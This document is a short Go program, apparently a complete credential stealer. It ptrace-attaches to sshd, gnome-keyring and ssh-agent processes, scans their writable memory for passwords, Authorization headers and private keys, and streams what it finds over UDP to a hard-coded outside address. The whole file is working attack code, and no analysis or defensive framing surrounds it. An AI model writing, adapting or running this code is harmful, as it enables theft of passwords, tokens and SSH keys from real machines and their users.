package main

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
)

// dump looks through the writable memory of a process for things that look like passwords.
func dump(pid int, out net.Conn) {
	if syscall.PtraceAttach(pid) != nil {
		return
	}
	defer syscall.PtraceDetach(pid)
	var ws syscall.WaitStatus
	syscall.Wait4(pid, &ws, 0, nil)
	maps, _ := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return
	}
	defer mem.Close()
	for _, l := range strings.Split(string(maps), "\n") {
		var a, b int64
		if n, _ := fmt.Sscanf(l, "%x-%x rw-p", &a, &b); n != 2 || b-a > 1<<26 {
			continue
		}
		buf := make([]byte, b-a)
		mem.ReadAt(buf, a)
		for _, key := range []string{"password=", "Authorization: ", "PRIVATE KEY"} {
			if i := bytes.Index(buf, []byte(key)); i >= 0 {
				out.Write(buf[i:min(i+400, len(buf))])
			}
		}
	}
}

func main() {
	c, err := net.Dial("udp", "203.0.113.8:5514")
	if err != nil {
		return
	}
	for _, n := range []string{"sshd", "gnome-keyring-d", "ssh-agent"} {
		ps, _ := filepath.Glob("/proc/[0-9]*/comm")
		for _, p := range ps {
			if b, _ := os.ReadFile(p); strings.TrimSpace(string(b)) == n {
				pid, _ := strconv.Atoi(strings.Split(p, "/")[2])
				dump(pid, c)
			}
		}
	}
}
